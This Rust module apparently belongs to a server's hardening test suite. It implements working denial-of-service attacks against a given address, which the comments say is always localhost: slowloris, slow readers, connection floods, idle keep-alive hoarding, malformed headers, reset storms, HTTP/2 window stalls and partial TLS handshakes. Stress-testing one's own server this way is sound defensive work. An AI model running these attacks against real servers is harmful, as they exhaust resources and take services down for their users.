//! The attacks, each bounded: a fixed number of connections or workers,
//! run until stopped, on the address given (127.0.0.1 in every caller).
//!
//! - slow readers: ask for a large asset (identity, so nothing shrinks it)
//!   through a 4 KiB receive window and never read;
//! - slowloris: send half a request head, then one more header line every
//!   `trickle`;
//! - descriptor flood: open connections and send nothing;
//! - idle keep-alive: ask for a small asset, read the whole answer, then
//!   keep the connection open and send nothing more (what browsers leave
//!   behind by the thousand);
//! - malformed: a 1 MiB header line, 100,000 header lines, a 64 KiB target,
//!   binary noise and a line that is not HTTP, in turn;
//! - reset: ask for a large asset, read the start, then close with
//!   `SO_LINGER` 0 so the server's next write meets a reset;
//! - HTTP/2 with no window: open `streams` streams on a large asset with
//!   `SETTINGS_INITIAL_WINDOW_SIZE` 0 and never send a WINDOW_UPDATE
//!   (what the server sends is read and dropped, to see it close);
//! - HTTP/2 stalled: the same with the default windows, through a 4 KiB
//!   receive window, never reading;
//! - preface cycles: connect, send `P` (the start of the HTTP/2
//!   preface), close, again and again;
//! - partial TLS: send the first bytes of a ClientHello and nothing more;
//! - tiny ranges: keep-alive requests for `Range: bytes=0-0` and HEAD of
//!   a large asset, one after the other, as fast as they are answered.
//!
//! [`Attack::Together`] runs several at once (10,000 idle keep-alive
//! connections and 3,000 slowloris ones, say), each reported on its own.
//!
//! The four that hold connections (slow readers, slowloris, flood, idle
//! keep-alive) keep `count` of them open: one the server closes is opened
//! again a second later, as a real attacker would (and no sooner, so a
//! server that sheds them is not answered with a connect storm).

use super::{h2, wire};
use serde::Serialize;
use socket2::{Domain, SockRef, Socket, Type};
use std::collections::BTreeMap;
use std::io::{ErrorKind, Read, Write};
use std::net::{SocketAddr, TcpStream};
use std::sync::Arc;
use std::sync::atomic::{AtomicBool, AtomicU64, Ordering};
use std::time::{Duration, Instant};

/// One attack and its parameters.
#[derive(Debug, Clone)]
pub enum Attack {
    /// `count` connections asking for `target` and never reading.
    SlowReaders { count: usize, target: String },
    /// `count` half-sent request heads, one more header line every `trickle`.
    Slowloris { count: usize, trickle: Duration },
    /// `count` connections that send nothing.
    Flood { count: usize },
    /// `count` connections that GET `target`, read the whole answer, then
    /// stay open sending nothing.
    IdleKeepAlive { count: usize, target: String },
    /// `workers` connections at a time sending oversized heads and noise.
    Malformed { workers: usize },
    /// `workers` connections at a time asking for `target`, reading
    /// `read_bytes`, then resetting.
    Reset {
        workers: usize,
        target: String,
        read_bytes: usize,
    },
    /// `count` HTTP/2 connections with `streams` streams each on
    /// `target`, an initial window of 0 and never a WINDOW_UPDATE.
    H2NoWindow {
        count: usize,
        streams: usize,
        target: String,
    },
    /// `count` HTTP/2 connections with `streams` streams each on
    /// `target`, the default windows, never reading.
    H2Stalled {
        count: usize,
        streams: usize,
        target: String,
    },
    /// `workers` threads each connecting, sending `P` and closing, again
    /// and again.
    PrefaceCycles { workers: usize },
    /// `count` connections that send the start of a TLS ClientHello and
    /// nothing more.
    PartialTls { count: usize },
    /// `workers` keep-alive connections asking for one byte of `target`
    /// (`Range: bytes=0-0`) and its HEAD, in turn, without pause.
    TinyRanges { workers: usize, target: String },
    /// Several attacks at once.
    Together(Vec<Attack>),
}

/// How long an attack connection waits to connect.
const CONNECT: Duration = Duration::from_millis(500);
/// How long an attack connection waits for an answer.
const ANSWER: Duration = Duration::from_secs(3);
/// How often held connections are checked and trickled.
const TICK: Duration = Duration::from_millis(200);
/// How long a held connection the server closed waits to be opened again.
const REOPEN: Duration = Duration::from_secs(1);

impl Attack {
    /// The mode's name, as `examples/attack.rs` takes it (`a+b` for
    /// attacks together).
    pub fn mode(&self) -> String {
        match self {
            Attack::SlowReaders { .. } => "slow-readers".into(),
            Attack::Slowloris { .. } => "slowloris".into(),
            Attack::Flood { .. } => "flood".into(),
            Attack::IdleKeepAlive { .. } => "idle-keepalive".into(),
            Attack::Malformed { .. } => "malformed".into(),
            Attack::Reset { .. } => "reset".into(),
            Attack::H2NoWindow { .. } => "h2-no-window".into(),
            Attack::H2Stalled { .. } => "h2-stalled".into(),
            Attack::PrefaceCycles { .. } => "preface-cycles".into(),
            Attack::PartialTls { .. } => "partial-tls".into(),
            Attack::TinyRanges { .. } => "tiny-ranges".into(),
            Attack::Together(attacks) => {
                let modes: Vec<String> = attacks.iter().map(Attack::mode).collect();
                modes.join("+")
            }
        }
    }

    /// The parameters, in words.
    pub fn describe(&self) -> String {
        match self {
            Attack::SlowReaders { count, target } => format!(
                "{count} connections GET {target} (identity) through a 4 KiB receive window, never reading"
            ),
            Attack::Slowloris { count, trickle } => format!(
                "{count} connections each send half a request head, then a header line every {trickle:?}"
            ),
            Attack::Flood { count } => format!("{count} connections that send nothing"),
            Attack::IdleKeepAlive { count, target } => format!(
                "{count} connections GET {target}, read the whole answer, then stay open sending nothing"
            ),
            Attack::Malformed { workers } => format!(
                "{workers} connections at a time: a 1 MiB header line, 100,000 header lines, a 64 KiB target, 64 KiB of noise, a line that is not HTTP"
            ),
            Attack::Reset {
                workers,
                target,
                read_bytes,
            } => format!(
                "{workers} connections at a time GET {target} (identity), read {read_bytes} bytes, close with SO_LINGER 0"
            ),
            Attack::H2NoWindow {
                count,
                streams,
                target,
            } => format!(
                "{count} HTTP/2 connections, {streams} streams each on {target}, initial window 0, never a WINDOW_UPDATE"
            ),
            Attack::H2Stalled {
                count,
                streams,
                target,
            } => format!(
                "{count} HTTP/2 connections, {streams} streams each on {target}, default windows, through a 4 KiB receive window, never reading"
            ),
            Attack::PrefaceCycles { workers } => format!(
                "{workers} threads each connect, send `P` (part of the HTTP/2 preface) and close, in a loop"
            ),
            Attack::PartialTls { count } => format!(
                "{count} connections that send the first 9 bytes of a TLS ClientHello and nothing more"
            ),
            Attack::TinyRanges { workers, target } => format!(
                "{workers} keep-alive connections ask for `Range: bytes=0-0` and a HEAD of {target} in turn, without pause"
            ),
            Attack::Together(attacks) => {
                let each: Vec<String> = attacks.iter().map(Attack::describe).collect();
                format!("at once: {}", each.join("; and "))
            }
        }
    }

    /// Starts the attack on `addr`; it runs until [`Running::finish`].
    pub fn start(&self, addr: SocketAddr) -> Running {
        raise_fd_limit();
        self.launch(addr, &Arc::new(AtomicBool::new(false)))
    }

    /// Starts the attack's threads, all stopped by `stop`.
    fn launch(&self, addr: SocketAddr, stop: &Arc<AtomicBool>) -> Running {
        let held = Arc::new(AtomicU64::new(0));
        let spawn = |work: Box<dyn FnOnce() -> AttackReport + Send>| std::thread::spawn(work);
        let hold = |count, greeting, trickle, small_window, keepalive, drain| {
            let hold = Hold {
                addr,
                count,
                greeting,
                trickle,
                small_window,
                keepalive,
                drain,
                stop: stop.clone(),
                open_now: held.clone(),
            };
            vec![spawn(Box::new(move || hold.run()))]
        };
        let workers =
            |n: usize, work: fn(SocketAddr, &str, &AtomicBool) -> AttackReport, arg: &str| {
                (0..n)
                    .map(|_| {
                        let stop = stop.clone();
                        let arg = arg.to_string();
                        spawn(Box::new(move || work(addr, &arg, &stop)))
                    })
                    .collect::<Vec<_>>()
            };
        let threads = match self.clone() {
            Attack::SlowReaders { count, target } => {
                let get = wire::get_request(addr, &target, &["Accept-Encoding: identity"]);
                hold(count, get, None, true, false, false)
            }
            Attack::Slowloris { count, trickle } => {
                let mut greeting = wire::get_request(addr, "/healthz", &["User-Agent: slowloris"]);
                greeting.truncate(greeting.len() - 2); // no blank line: never complete
                hold(count, greeting, Some(trickle), false, false, false)
            }
            Attack::Flood { count } => hold(count, Vec::new(), None, false, false, false),
            Attack::IdleKeepAlive { count, target } => {
                let get = wire::get_request(addr, &target, &["User-Agent: idle-keepalive"]);
                hold(count, get, None, false, true, false)
            }
            Attack::H2NoWindow {
                count,
                streams,
                target,
            } => {
                let greeting = h2_greeting(&[(h2::INITIAL_WINDOW_SIZE, 0)], streams, &target);
                hold(count, greeting, None, false, false, true)
            }
            Attack::H2Stalled {
                count,
                streams,
                target,
            } => hold(
                count,
                h2_greeting(&[], streams, &target),
                None,
                true,
                false,
                false,
            ),
            Attack::PartialTls { count } => {
                // A handshake record of 512 bytes, of which a ClientHello's
                // first 4 come: the server waits for the other 508.
                let greeting = vec![0x16, 0x03, 0x01, 0x02, 0x00, 0x01, 0x00, 0x01, 0xfc];
                hold(count, greeting, None, false, false, false)
            }
            Attack::PrefaceCycles { workers: n } => workers(n, preface_cycles, ""),
            Attack::TinyRanges { workers: n, target } => workers(n, tiny_ranges, &target),
            Attack::Malformed { workers } => (0..workers)
                .map(|i| {
                    let stop = stop.clone();
                    spawn(Box::new(move || malformed(addr, i, &stop)))
                })
                .collect(),
            Attack::Reset {
                workers,
                target,
                read_bytes,
            } => (0..workers)
                .map(|_| {
                    let stop = stop.clone();
                    let target = target.clone();
                    spawn(Box::new(move || reset(addr, &target, read_bytes, &stop)))
                })
                .collect(),
            Attack::Together(attacks) => {
                let parts = attacks.iter().map(|a| a.launch(addr, stop)).collect();
                return Running {
                    parts,
                    ..self.running(stop, held, Vec::new())
                };
            }
        };
        self.running(stop, held, threads)
    }

    fn running(
        &self,
        stop: &Arc<AtomicBool>,
        held: Arc<AtomicU64>,
        threads: Vec<std::thread::JoinHandle<AttackReport>>,
    ) -> Running {
        Running {
            mode: self.mode(),
            params: self.describe(),
            stop: stop.clone(),
            held,
            threads,
            parts: Vec::new(),
        }
    }

    /// The connections the attack holds open once it is under way (0 for
    /// those that open and close them in turn).
    pub fn holds(&self) -> u64 {
        match self {
            Attack::SlowReaders { count, .. }
            | Attack::Slowloris { count, .. }
            | Attack::Flood { count }
            | Attack::IdleKeepAlive { count, .. }
            | Attack::H2NoWindow { count, .. }
            | Attack::H2Stalled { count, .. }
            | Attack::PartialTls { count } => *count as u64,
            Attack::Malformed { .. }
            | Attack::Reset { .. }
            | Attack::PrefaceCycles { .. }
            | Attack::TinyRanges { .. } => 0,
            Attack::Together(attacks) => attacks.iter().map(Attack::holds).sum(),
        }
    }
}

/// Raises this process's soft open-files limit to its hard limit, as
/// `ccc serve` does for itself: the attacks hold thousands of sockets.
pub fn raise_fd_limit() {
    if let Err(e) = ccc::testing::transport::raise_open_files() {
        eprintln!("warning: cannot raise the open-files limit: {e}");
    }
}

/// What an attack did and what the server answered it.
#[derive(Debug, Clone, Default, Serialize)]
pub struct AttackReport {
    pub mode: String,
    pub params: String,
    /// Connections opened.
    pub opened: u64,
    /// Most attack connections open at once.
    pub peak_open: u64,
    pub refused: u64,
    pub connect_timeouts: u64,
    pub connect_errors: u64,
    /// Held connections the server closed (EOF) or reset.
    pub closed_by_server: u64,
    /// What the server answered, by status; `none` when it closed without
    /// an answer, `timeout` when it sent nothing in time, `reset` when the
    /// connection was reset before an answer.
    pub answers: BTreeMap<String, u64>,
    /// Writes the server cut short (it stopped reading and closed).
    pub writes_cut: u64,
    /// Attacks run together: each one's own report (this one adds them up).
    #[serde(skip_serializing_if = "Vec::is_empty")]
    pub parts: Vec<AttackReport>,
}

impl AttackReport {
    fn merge(&mut self, other: AttackReport) {
        self.opened += other.opened;
        self.peak_open += other.peak_open;
        self.refused += other.refused;
        self.connect_timeouts += other.connect_timeouts;
        self.connect_errors += other.connect_errors;
        self.closed_by_server += other.closed_by_server;
        self.writes_cut += other.writes_cut;
        for (k, v) in other.answers {
            *self.answers.entry(k).or_default() += v;
        }
    }

    fn answer(&mut self, what: impl Into<String>) {
        *self.answers.entry(what.into()).or_default() += 1;
    }

    /// Counts a failed connect.
    fn connect_failed(&mut self, e: &std::io::Error) {
        match e.kind() {
            ErrorKind::ConnectionRefused => self.refused += 1,
            ErrorKind::TimedOut | ErrorKind::WouldBlock => self.connect_timeouts += 1,
            // Connected, but the answer was not one to keep the connection
            // open after: counted in `answers`.
            ErrorKind::ConnectionAborted => {}
            _ => self.connect_errors += 1,
        }
    }
}

/// A started attack.
pub struct Running {
    mode: String,
    params: String,
    stop: Arc<AtomicBool>,
    /// Connections held open now (the holding attacks count them).
    held: Arc<AtomicU64>,
    threads: Vec<std::thread::JoinHandle<AttackReport>>,
    /// Attacks run together, each with threads of its own.
    parts: Vec<Running>,
}

impl Running {
    /// The connections held open now, as of the last tick.
    pub fn held(&self) -> u64 {
        self.held.load(Ordering::Relaxed) + self.parts.iter().map(Running::held).sum::<u64>()
    }

    /// Stops the attack, closes its connections and reports.
    pub fn finish(self) -> AttackReport {
        self.stop.store(true, Ordering::Relaxed);
        let mut report = AttackReport {
            mode: self.mode,
            params: self.params,
            ..AttackReport::default()
        };
        for t in self.threads {
            report.merge(t.join().expect("an attack thread panicked"));
        }
        for part in self.parts {
            let part = part.finish();
            report.merge(part.clone());
            report.parts.push(part);
        }
        report
    }
}

/// Opens a TCP connection, optionally with a 4 KiB receive buffer (set
/// before the handshake, so the window the server sees is small).
fn open(addr: SocketAddr, small_window: bool) -> std::io::Result<TcpStream> {
    let socket = Socket::new(Domain::for_address(addr), Type::STREAM, None)?;
    if small_window {
        socket.set_recv_buffer_size(4096)?;
    }
    socket.connect_timeout(&addr.into(), CONNECT)?;
    Ok(socket.into())
}

/// Holds `count` connections open, each sent `greeting` once and then
/// `trickle`d a header line now and then.
struct Hold {
    addr: SocketAddr,
    count: usize,
    greeting: Vec<u8>,
    trickle: Option<Duration>,
    /// Slow readers: small receive window, and never read (a held
    /// connection's death is seen through `SO_ERROR` only).
    small_window: bool,
    /// Idle keep-alive: the greeting is a whole request, whose answer is
    /// read in full before the connection goes quiet.
    keepalive: bool,
    /// HTTP/2: what the server sends is read and dropped (the connection
    /// is held until the server closes it).
    drain: bool,
    stop: Arc<AtomicBool>,
    /// Connections open now, for [`Running::held`].
    open_now: Arc<AtomicU64>,
}

/// A held connection, or when to open it again.
enum Slot {
    Open(Held),
    Closed(Instant),
}

struct Held {
    stream: TcpStream,
    next_trickle: Instant,
    lines: u32,
}

impl Hold {
    fn run(self) -> AttackReport {
        let mut report = AttackReport::default();
        let mut slots: Vec<Slot> = (0..self.count)
            .map(|_| Slot::Closed(Instant::now()))
            .collect();
        let mut buf = [0u8; 512];
        while !self.stop.load(Ordering::Relaxed) {
            let tick = Instant::now();
            // Reopen what is due; a connect that times out means the
            // server's backlog is full: try the rest on the next tick.
            for slot in slots.iter_mut() {
                if self.stop.load(Ordering::Relaxed) {
                    break;
                }
                if !matches!(slot, Slot::Closed(due) if *due <= tick) {
                    continue;
                }
                match self.open_one(&mut report) {
                    Ok(held) => {
                        report.opened += 1;
                        *slot = Slot::Open(held);
                    }
                    Err(e) => {
                        report.connect_failed(&e);
                        *slot = Slot::Closed(tick + REOPEN);
                        if e.kind() != ErrorKind::ConnectionRefused {
                            break;
                        }
                    }
                }
            }
            let open = slots.iter().filter(|s| matches!(s, Slot::Open(_))).count() as u64;
            report.peak_open = report.peak_open.max(open);
            self.open_now.store(open, Ordering::Relaxed);
            for slot in slots.iter_mut() {
                let Slot::Open(held) = slot else { continue };
                if !self.alive(held, &mut buf, &mut report) {
                    report.closed_by_server += 1;
                    *slot = Slot::Closed(Instant::now() + REOPEN);
                }
            }
            if let Some(rest) = TICK.checked_sub(tick.elapsed()) {
                std::thread::sleep(rest);
            }
        }
        report
    }

    fn open_one(&self, report: &mut AttackReport) -> std::io::Result<Held> {
        let mut stream = open(self.addr, self.small_window)?;
        stream.set_write_timeout(Some(CONNECT))?;
        stream.write_all(&self.greeting)?;
        if self.keepalive {
            // The answer in full; one that closes the connection (a 503 at
            // the cap) leaves nothing to hold: reopened a second later.
            stream.set_read_timeout(Some(ANSWER))?;
            let answer = wire::read_response(&mut std::io::BufReader::new(&stream), false);
            let what = match &answer {
                Ok(r) => r.status.to_string(),
                Err(e) if e.is_timeout() => "timeout".into(),
                Err(wire::ReadError::ClosedBeforeAnswer) => "none".into(),
                Err(_) => "reset".into(),
            };
            report.answer(what);
            if !matches!(answer, Ok(r) if r.status == 200 && !r.close) {
                return Err(std::io::Error::new(
                    ErrorKind::ConnectionAborted,
                    "no keep-alive answer",
                ));
            }
        }
        stream.set_nonblocking(true)?;
        Ok(Held {
            stream,
            next_trickle: Instant::now() + self.trickle.unwrap_or(Duration::MAX / 4),
            lines: 0,
        })
    }

    /// Trickles a header line when one is due and says whether the server
    /// still holds the connection (an answer counts as closing it: after
    /// one, the attack connection is spent).
    fn alive(&self, held: &mut Held, buf: &mut [u8], report: &mut AttackReport) -> bool {
        if self.small_window {
            return !matches!(held.stream.take_error(), Ok(Some(_)) | Err(_));
        }
        if self.drain {
            loop {
                match held.stream.read(buf) {
                    Ok(0) => return false,
                    Ok(_) => {}
                    Err(e) if e.kind() == ErrorKind::WouldBlock => return true,
                    Err(_) => return false,
                }
            }
        }
        let due = self.trickle.filter(|_| Instant::now() >= held.next_trickle);
        if let Some(trickle) = due {
            held.next_trickle += trickle;
            held.lines += 1;
            let line = format!("X-Slow-{}: {}\r\n", held.lines, held.lines);
            match held.stream.write(line.as_bytes()) {
                Ok(_) => {}
                Err(e) if e.kind() == ErrorKind::WouldBlock => {}
                Err(_) => return false,
            }
        }
        match held.stream.read(buf) {
            Ok(0) => {
                report.answer("none");
                false
            }
            Ok(n) => {
                report.answer(
                    wire::status_of(&buf[..n]).map_or("garbage".to_string(), |s| s.to_string()),
                );
                false
            }
            Err(e) if e.kind() == ErrorKind::WouldBlock => true,
            Err(_) => {
                report.answer("reset");
                false
            }
        }
    }
}

/// The malformed requests, in the order they are sent.
const MALFORMED: [&str; 5] = [
    "long-header-line",
    "many-headers",
    "long-target",
    "noise",
    "not-http",
];

fn malformed_bytes(kind: &str, addr: SocketAddr, seed: u64) -> Vec<u8> {
    let head = |target: &str| format!("GET {target} HTTP/1.1\r\nHost: {addr}\r\n").into_bytes();
    match kind {
        "long-header-line" => {
            let mut b = head("/healthz");
            b.extend_from_slice(b"X-Long: ");
            b.resize(b.len() + (1 << 20), b'a');
            b.extend_from_slice(b"\r\n\r\n");
            b
        }
        "many-headers" => {
            let mut b = head("/healthz");
            for i in 0..100_000 {
                b.extend_from_slice(format!("X-{i}: {i}\r\n").as_bytes());
            }
            b.extend_from_slice(b"\r\n");
            b
        }
        "long-target" => {
            let target = format!("/assets/{}", "a".repeat(64 << 10));
            let mut b = head(&target);
            b.extend_from_slice(b"\r\n");
            b
        }
        "noise" => {
            let mut x = seed | 1;
            (0..(64 << 10))
                .map(|_| {
                    x ^= x << 13;
                    x ^= x >> 7;
                    x ^= x << 17;
                    x as u8
                })
                .collect()
        }
        _ => b"SSH-2.0-OpenSSH_9.6 hello\r\n\r\n".to_vec(),
    }
}

/// One worker of the malformed attack: one connection at a time, each kind
/// in turn, recording what the server answered.
fn malformed(addr: SocketAddr, worker: usize, stop: &AtomicBool) -> AttackReport {
    let mut report = AttackReport::default();
    let mut n = worker as u64;
    while !stop.load(Ordering::Relaxed) {
        let kind = MALFORMED[n as usize % MALFORMED.len()];
        let bytes = malformed_bytes(kind, addr, n);
        n += 1;
        let mut stream = match open(addr, false) {
            Ok(s) => s,
            Err(e) => {
                report.connect_failed(&e);
                std::thread::sleep(TICK);
                continue;
            }
        };
        report.opened += 1;
        report.peak_open = 1;
        let _ = stream.set_write_timeout(Some(ANSWER));
        let _ = stream.set_read_timeout(Some(ANSWER));
        if stream.write_all(&bytes).is_err() {
            report.writes_cut += 1;
        }
        // Read what comes back until the server closes or goes quiet.
        let mut answer = Vec::new();
        let mut buf = [0u8; 4096];
        let outcome = loop {
            match stream.read(&mut buf) {
                Ok(0) => break None,
                Ok(k) => {
                    answer.extend_from_slice(&buf[..k]);
                    if answer.len() >= 12 {
                        break None;
                    }
                }
                Err(e) if matches!(e.kind(), ErrorKind::WouldBlock | ErrorKind::TimedOut) => {
                    break Some("timeout");
                }
                Err(_) => break Some("reset"),
            }
        };
        let what = match (wire::status_of(&answer), outcome) {
            (Some(status), _) => format!("{kind}: {status}"),
            (None, Some(why)) if answer.is_empty() => format!("{kind}: {why}"),
            (None, _) if answer.is_empty() => format!("{kind}: none"),
            (None, _) => format!("{kind}: garbage"),
        };
        report.answer(what);
    }
    report
}

/// One worker of the reset attack.
fn reset(addr: SocketAddr, target: &str, read_bytes: usize, stop: &AtomicBool) -> AttackReport {
    let mut report = AttackReport::default();
    let request = wire::get_request(addr, target, &["Accept-Encoding: identity"]);
    while !stop.load(Ordering::Relaxed) {
        let mut stream = match open(addr, false) {
            Ok(s) => s,
            Err(e) => {
                report.connect_failed(&e);
                std::thread::sleep(TICK);
                continue;
            }
        };
        report.opened += 1;
        report.peak_open = 1;
        let _ = stream.set_read_timeout(Some(ANSWER));
        let _ = stream.set_write_timeout(Some(ANSWER));
        if stream.write_all(&request).is_err() {
            report.writes_cut += 1;
            continue;
        }
        let mut got = Vec::new();
        let mut buf = vec![0u8; 16 << 10];
        let mut failed = None;
        while got.len() < read_bytes {
            match stream.read(&mut buf) {
                Ok(0) => break,
                Ok(k) if got.len() < 64 => got.extend_from_slice(&buf[..k]),
                Ok(k) => got.resize(got.len() + k, 0),
                Err(e) if matches!(e.kind(), ErrorKind::WouldBlock | ErrorKind::TimedOut) => {
                    failed = Some("timeout");
                    break;
                }
                Err(_) => {
                    failed = Some("reset");
                    break;
                }
            }
        }
        match (wire::status_of(&got), failed) {
            (Some(status), _) => report.answer(status.to_string()),
            (None, Some(why)) => report.answer(why),
            (None, None) => report.answer("none"),
        }
        // SO_LINGER 0: close() sends a reset and discards what is queued.
        let _ = SockRef::from(&stream).set_linger(Some(Duration::ZERO));
        drop(stream);
    }
    report
}

/// The HTTP/2 preface, SETTINGS with `settings`, and HEADERS for
/// `streams` GETs of `target` (streams 1, 3, 5, ...).
fn h2_greeting(settings: &[(u16, u32)], streams: usize, target: &str) -> Vec<u8> {
    let mut out = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".to_vec();
    out.extend(h2::settings(settings));
    let block = h2::request(target, &[("accept-encoding", b"gzip, br")]);
    for stream in (1..).step_by(2).take(streams) {
        out.extend(h2::header_frames(stream, &block, true));
    }
    out
}

/// One worker of the preface cycles: connect, `P`, close, until stopped.
fn preface_cycles(addr: SocketAddr, _: &str, stop: &AtomicBool) -> AttackReport {
    let mut report = AttackReport::default();
    while !stop.load(Ordering::Relaxed) {
        match open(addr, false) {
            Ok(mut stream) => {
                report.opened += 1;
                if stream.write_all(b"P").is_err() {
                    report.writes_cut += 1;
                }
            }
            Err(e) => {
                report.connect_failed(&e);
                std::thread::sleep(TICK);
            }
        }
    }
    report
}

/// One worker of the tiny ranges: one keep-alive connection (opened again
/// when the server closes it) asking for byte 0 of `target` and for its
/// HEAD in turn, each answer read before the next request.
fn tiny_ranges(addr: SocketAddr, target: &str, stop: &AtomicBool) -> AttackReport {
    let mut report = AttackReport::default();
    let range = wire::get_request(addr, target, &["Range: bytes=0-0"]);
    let mut head = wire::get_request(addr, target, &[]);
    head.splice(..3, b"HEAD".iter().copied());
    while !stop.load(Ordering::Relaxed) {
        let stream = match open(addr, false) {
            Ok(s) => s,
            Err(e) => {
                report.connect_failed(&e);
                std::thread::sleep(TICK);
                continue;
            }
        };
        report.opened += 1;
        report.peak_open = 1;
        let _ = stream.set_read_timeout(Some(ANSWER));
        let mut reader = std::io::BufReader::new(&stream);
        for i in 0.. {
            if stop.load(Ordering::Relaxed) {
                break;
            }
            let is_head = i % 2 == 1;
            let request = if is_head { &head } else { &range };
            if (&stream).write_all(request).is_err() {
                report.writes_cut += 1;
                break;
            }
            match wire::read_response(&mut reader, is_head) {
                Ok(r) => {
                    report.answer(r.status.to_string());
                    if r.close {
                        break;
                    }
                }
                Err(e) if e.is_timeout() => {
                    report.answer("timeout");
                    break;
                }
                Err(_) => {
                    report.answer("reset");
                    break;
                }
            }
        }
    }
    report
}
